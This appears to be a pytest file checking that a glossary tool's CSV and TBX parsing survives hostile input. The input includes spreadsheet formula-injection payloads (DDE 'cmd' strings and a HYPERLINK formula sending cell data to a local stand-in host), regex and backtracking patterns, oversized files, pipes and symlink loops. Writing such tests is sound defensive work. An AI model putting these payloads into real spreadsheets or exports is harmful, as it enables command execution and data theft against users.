"""Glossaries that are enormous, full of traps for other programs, or no files at all."""

import os
import re
import sys
from pathlib import Path

import pytest

from briefing.errors import InputError
from briefing.glossary import MOST_ENTRIES, ExportFormat, check, export, merge, parse
from briefing.glossary.files import read_glossary
from briefing.matching import Matcher
from briefing.pipeline.termbase import read_glossaries
from briefing.records import Term
from tests.factories.processor_time import at_most

HEADER = "source,target,forbidden\n"

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Порт")',
    "\t=1+1",
    "'=1+1",
)


@pytest.mark.parametrize("form", ExportFormat)
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_in_every_export_and_comes_back_as_it_was(formula: str, form: ExportFormat) -> None:
    text, cell = formula.strip(), formula.replace('"', '""')
    glossary = merge([parse(f'{HEADER}"{cell}",port,\n'.encode(), "ru-en.csv")])
    assert [(term.source, term.target) for term in glossary.terms] == [(text, "port")]
    assert ("formula" in {found.code for found in check(glossary)}) == text.startswith(("=", "+", "-", "@"))
    again = parse(export(glossary, form), "ru-en.tbx" if form is ExportFormat.TBX else "ru-en.csv")
    assert [(term.source, term.target) for term in again.terms] == [(text, "port")]


METACHARACTERS = (
    "(((",
    "[^]]*",
    "\\",
    "\\1",
    ".*",
    "(?P<a",
    "a{99999}",
    "*",
    "+",
    "?",
    "^$",
    "(а+)+$",
    "[а-я]+ порт",
    "а|б",
    "%s{0}",
)


@pytest.mark.parametrize("written", METACHARACTERS)
def test_signs_of_regular_expressions_are_letters_like_any_other(written: str) -> None:
    cell = written.replace("|", "/")  # which separates forms
    glossary = merge([parse(f"{HEADER}{cell} порт,{cell} port,no {cell}\n".encode(), "ru-en.csv")])
    (term,) = glossary.terms
    assert (term.source, term.target, term.forbidden) == (f"{cell} порт", f"{cell} port", (f"no {cell}",))
    check(glossary)
    found = Matcher(glossary.terms, "ru").matches(f"Открыт {cell} порт. {'а' * 5_000}!")
    assert [match.term for match in found] == [term]


def test_a_million_rows_are_named_in_no_time_and_not_read() -> None:
    content = (HEADER + "".join(f"Термин {number},Term {number}\n" for number in range(1_000_000))).encode()
    with at_most(5):
        glossary = merge([parse(content, "glossary/ru-en.csv")])
    assert glossary.unusable
    (found,) = map(str, glossary.findings)
    assert found.startswith("glossary/ru-en.csv:1: too-large: The file has 1,000,001 entries, more than a glossary can")


def test_a_term_base_of_a_million_concepts_is_named_too() -> None:
    content = f"<tbx><text><body>{'<conceptEntry/>' * 1_000_000}</body></text></tbx>".encode()
    assert [found.code for found in parse(content, "ru-en.tbx").findings] == ["too-large"]


def test_a_large_glossary_takes_microseconds_a_row() -> None:
    rows = 20_000
    assert rows < MOST_ENTRIES
    content = (HEADER + "".join(f"Термин {number},Term {number},no {number}\n" for number in range(rows))).encode()
    with at_most(rows * 300e-6):
        glossary = merge([parse(content, "ru-en.csv")])
        check(glossary)
    assert len(glossary.terms) == rows


LONG = {
    "a cell of 1,000 words": "Порт " * 1_000 + ",port,",
    "a cell of a megabyte": "Порт" * 250_000 + ",port,",
    "a target of 1,000 words": "Порт," + "port " * 1_000 + ",",
    "a quote that is never closed": '"Порт,' + "port " * 1_000,
    "100,000 forbidden renderings": "Порт,port," + "|".join(f"port {number}" for number in range(100_000)),
    "1,000,000 cells": "Порт,port" + "," * 1_000_000,
    "1,000,000 quotes": '"' * 1_000_001,
    "100,000 quotes that do not pair": 'а,"b\n' * 100_000,
}


@pytest.mark.parametrize("row", LONG.values(), ids=LONG)
def test_a_row_without_end_costs_neither_time_nor_the_other_rows(row: str) -> None:
    with at_most(5):
        glossary = merge([parse(f"{HEADER}Алят,Alat,\n{row}\n".encode(), "ru-en.csv")])
        findings = check(glossary)
        assert "Алят" in {term.source for term in glossary.terms}
        assert len(glossary.terms) == 2 or findings
        assert max((len(found.message) for found in findings), default=0) < 1_000


def test_a_run_of_a_sentence_is_no_term() -> None:
    found = merge([parse(f"{HEADER}{'Порт ' * 200},port,\n".encode(), "ru-en.csv")]).findings
    assert [each.code for each in found] == ["too-long"]
    assert len(str(found[0])) < 250


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such files")
def test_a_pipe_a_loop_or_a_device_does_not_hold_up_a_build(tmp_path: Path) -> None:
    (tmp_path / "ru-en.csv").write_text(f"{HEADER}Алят,Alat,\n", encoding="utf-8")
    os.mkfifo(tmp_path / "ru-en.pipe.csv")
    (tmp_path / "ru-en.loop.csv").symlink_to("ru-en.loop.csv")
    (tmp_path / "ru-en.zero.csv").symlink_to("/dev/zero")
    (tmp_path / "ru-en.folder.csv").mkdir()
    assert [term.source for term in read_glossary(tmp_path, "ru", "en").terms] == ["Алят"]
    for name in ("ru-en.pipe.csv", "ru-en.zero.csv"):
        with pytest.raises(InputError, match=f"{name}: is a pipe, a socket or a device"):
            read_glossary(tmp_path / name, "ru", "en")


def test_a_file_larger_than_a_glossary_is_named_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "ru-en.csv"
    with path.open("wb") as file:
        file.truncate(2 << 30)
    with pytest.raises(
        InputError, match=re.escape(f"{path.as_posix()}: has 2,048 MB, which is larger than a glossary")
    ):
        read_glossaries(tmp_path, ["ru"], "en")


def test_terms_of_every_character_are_matched_without_a_fault() -> None:
    signs = [chr(code) for code in (*range(0x250), *range(0x2000, 0x2070), 0xFEFF, 0x1F600)]
    terms = [Term(f"{sign}порт{sign}", "port") for sign in signs] + [Term(sign, "sign") for sign in signs]
    matcher = Matcher(terms, "ru")
    for sign in signs:
        for match in matcher.matches(f"Открыт {sign}порт{sign} в Баку{sign}."):
            assert match.span.stop > match.span.start
